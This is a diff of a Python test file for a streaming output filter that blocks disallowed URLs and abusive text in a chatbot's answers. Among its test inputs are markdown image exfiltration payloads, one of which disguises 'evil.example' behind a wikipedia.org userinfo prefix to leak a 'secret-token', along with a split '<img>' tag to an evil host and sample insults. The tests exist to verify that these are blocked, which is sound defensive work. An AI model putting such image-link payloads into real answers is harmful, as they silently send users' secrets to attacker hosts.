@@ -7,9 +7,11 @@ from tests.support.paths import (
     RAILS_DIR,
     TEST_DATA,
 )
-from webapp.guard.outputfilter import CHANNELS, FilterStep, cut_point
+from webapp.guard.outputfilter import CHANNELS, FilterStep, OutputFilter
 from webapp.guard.rails import Guard
-from webapp.guard.urlpolicy import find_urls
+from webapp.guard.rendered import rendered_urls
+from webapp.guard.urlpolicy import UrlPolicy
+from webapp.guard.verdicts import RailOutcome
 
 ALLOWLIST = ["en.wikipedia.org", "*.example.com", "github.com", "docs.python.org"]
 CASES = yaml.safe_load((TEST_DATA / "output_cases.yaml").read_text(encoding="utf-8"))
@@ -63,7 +65,7 @@ async def test_output_corpus(guard, case, seed):
     rng = random.Random(seed) if seed is not None else None
     shown, blocked, events = await stream(guard, case, rng)
     for text in shown.values():
-        assert guard.url_policy.first_violation(find_urls(text)) is None, shown
+        assert guard.url_policy.first_violation(rendered_urls(text)) is None, shown
     if case["expect"] == "allow":
         assert blocked is None, blocked
         assert shown["answer"] == case.get("answer", "")
@@ -104,55 +106,119 @@ async def test_nothing_is_released_after_a_block(guard):
     assert final.released == {} and final.block == first.block
 
 
-async def test_text_is_released_in_small_chunks_while_streaming(guard):
-    flt = guard.output_filter()
-    sizes = []
-    for word in ("lorem ipsum dolor sit amet " * 40).split(" "):
-        step = await flt.feed("answer", word + " ")
-        if "answer" in step.released:
-            sizes.append(len(step.released["answer"]))
-    assert len(sizes) >= 5
-    assert max(sizes) <= 200
+class Spy:
+    """Moderation that records every text it judged (and blocks the words in ``bad``)."""
+
+    def __init__(self, bad: tuple[str, ...] = ()) -> None:
+        self.judged: list[str] = []
+        self.bad = bad
+
+    def __call__(self, text: str) -> RailOutcome:
+        self.judged.append(text)
+        hit = any(word in text for word in self.bad)
+        return RailOutcome("output", "moderation", "block" if hit else "allow", "abuse" if hit else "ok", 0.0)
 
 
-async def test_sentence_end_releases_early(guard):
-    flt = guard.output_filter()
-    step = await flt.feed("answer", "Hello there. How")
-    assert step.released == {"answer": "Hello there. "}
-    assert [e.rail for e in step.events] == ["url_allowlist", "moderation"]
+def spied_filter(bad: tuple[str, ...] = (), hold_limit: int = 1000) -> tuple[OutputFilter, Spy]:
+    spy = Spy(bad)
+    return OutputFilter(url_policy=UrlPolicy(ALLOWLIST), moderate=spy, hold_limit=hold_limit), spy
 
 
-async def test_flush_runs_the_nemo_output_rails_and_releases_the_rest(guard):
-    flt = guard.output_filter()
-    await flt.feed("reasoning", "thinking")
+async def feed_all(flt: OutputFilter, deltas: list[str]) -> tuple[list[str], FilterStep | None]:
+    pieces: list[str] = []
+    for delta in deltas:
+        step = await flt.feed("answer", delta)
+        pieces += [step.released["answer"]] if "answer" in step.released else []
+        if step.block:
+            return pieces, step
     step = await flt.flush()
-    assert step.released == {"reasoning": "thinking"}
-    assert {e.rail for e in step.events} == {"url_allowlist", "moderation"}
+    pieces += [step.released["answer"]] if "answer" in step.released else []
+    return pieces, step if step.block else None
 
 
-@pytest.mark.parametrize(
-    ("pending", "expected"),
-    [
-        ("Hello world", 0),  # short, no sentence end: wait
-        ("One. Two", 5),
-        ("Line\nnext", 5),
-        ("See ![x](https://a.example.com/x", 0),  # no sentence end, short: wait
-        ("Intro. ![alt text](https://evil", 7),  # open image held back
-        ('Intro. <img src="https://evil.example/a b" ', 7),  # open tag held back
-        ("if a < b. then", 10),  # "< b" is not a tag
-        ("x" * 300, 0),  # one long token: never cut inside it
-    ],
-)
-def test_cut_point(pending, expected):
-    assert cut_point(pending, 160) == expected
+async def test_the_first_word_is_shown_as_soon_as_it_is_complete():
+    flt, _ = spied_filter()
+    assert (await flt.feed("answer", "Hel")).released == {}
+    assert (await flt.feed("answer", "lo th")).released == {"answer": "Hello "}
 
 
-async def test_slow_text_is_released_after_the_hold_time_without_a_sentence_end(guard) -> None:
-    import asyncio
+async def test_a_link_split_across_many_tiny_chunks_is_never_shown_unchecked():
+    text = "Sure. Here: ![chart](https://en.wikipedia.org@evil.example/?q=secret-token) and more words. "
+    for size in (1, 2, 3):
+        flt, spy = spied_filter()
+        pieces, block = await feed_all(flt, [text[i : i + size] for i in range(0, len(text), size)])
+        assert block is not None and block.block is not None and block.block.rail == "url_allowlist"
+        shown = "".join(pieces)
+        assert shown == "Sure. Here: "  # everything before the image, and nothing of it
+        assert all(any(j.endswith(p) for j in spy.judged) for p in pieces if p.strip())
 
+
+async def test_an_allowed_link_split_into_tiny_chunks_is_shown_whole_once_complete():
+    text = "See [the docs](https://docs.python.org/3/library/asyncio.html) now, please. "
+    flt, spy = spied_filter()
+    pieces, block = await feed_all(flt, list(text))
+    assert block is None and "".join(pieces) == text
+    link_piece = next(p for p in pieces if "](" in p)
+    assert link_piece.startswith("[the docs](https://docs.python.org/3/library/asyncio.html)")
+    assert all("docs.python" not in p for p in pieces if p is not link_piece)  # never shown half-built
+
+
+async def test_a_sentence_of_abuse_streamed_word_by_word_is_blocked_before_its_abusive_word_shows():
+    text = "Happy to help. You are a worthless idiot and everyone knows it. Bye."
+    flt, spy = spied_filter(bad=("idiot",))
+    words = [w + " " for w in text.split(" ")]
+    pieces, block = await feed_all(flt, words)
+    assert block is not None and block.block is not None and block.block.rail == "moderation"
+    shown = "".join(pieces)
+    assert "idiot" not in shown and shown.startswith("Happy to help. ")
+    assert all(any(j.endswith(p) for j in spy.judged) for p in pieces)  # each word shown was judged
+    assert any(j.startswith("Happy to help.") for j in spy.judged[1:])  # with its sentence context
+
+
+async def test_the_real_moderation_blocks_abuse_streamed_word_by_word(guard):
+    text = "Let me answer. You are stupid and worthless, you idiot. Anything else?"
     flt = guard.output_filter()
-    first = await flt.feed("answer", "Slowly arriving words ")
-    assert first.released == {}  # short, no sentence end: held
-    await asyncio.sleep(guard.settings.max_hold_ms / 1000 + 0.05)
-    later = await flt.feed("answer", "and more ")
-    assert later.released == {"answer": "Slowly arriving words and more "}
+    shown, block = "", None
+    for word in text.split(" "):
+        step = await flt.feed("answer", word + " ")
+        shown += step.released.get("answer", "")
+        if step.block:
+            block = step.block
+            break
+    assert block is not None and block.rail == "moderation"
+    assert "idiot" not in shown and "worthless" not in shown
+
+
+async def test_a_flagged_start_of_a_sentence_waits_for_the_sentence_to_end():
+    # "hell" alone looks bad to a bag-of-words classifier; the whole sentence decides
+    spy_words = ("hell,",)
+    flt, spy = spied_filter(bad=spy_words)
+    first = await flt.feed("answer", "What the hell, ")
+    assert first.released == {}  # flagged: waits for the end of the sentence
+    spy.bad = ()  # the rest of the sentence makes it fine
+    later = await flt.feed("answer", "that bug again? Fix")
+    assert later.block is None and later.released["answer"].endswith("that bug again? ")
+
+
+async def test_an_unclosed_tag_is_held_then_released_escaped_past_the_hold_limit():
+    flt, _ = spied_filter(hold_limit=50)
+    step = await flt.feed("answer", "Look <img src" + " " * 60)
+    assert step.released == {"answer": "Look &lt;img src" + " " * 60}
+    later = await flt.feed("answer", '="//attr-split.evil.shop/x.png"> ')
+    assert later.block is not None  # the rest is judged too, even though it can no longer render
+
+
+async def test_an_unclosed_construct_at_the_end_is_released_escaped():
+    flt, _ = spied_filter()
+    await flt.feed("answer", "Intro. [see the table ")
+    await flt.feed("answer", "<b class=x ")
+    final = await flt.flush()
+    assert final.block is None
+    assert final.released == {"answer": "\\[see the table &lt;b class=x "}
+
+
+async def test_code_is_shown_as_written():
+    code = "```c\nfor (i=0; i<n; i++) { a[i] = b[i]; }\n```\n"
+    flt, _ = spied_filter()
+    pieces, block = await feed_all(flt, list(code))
+    assert block is None and "".join(pieces) == code
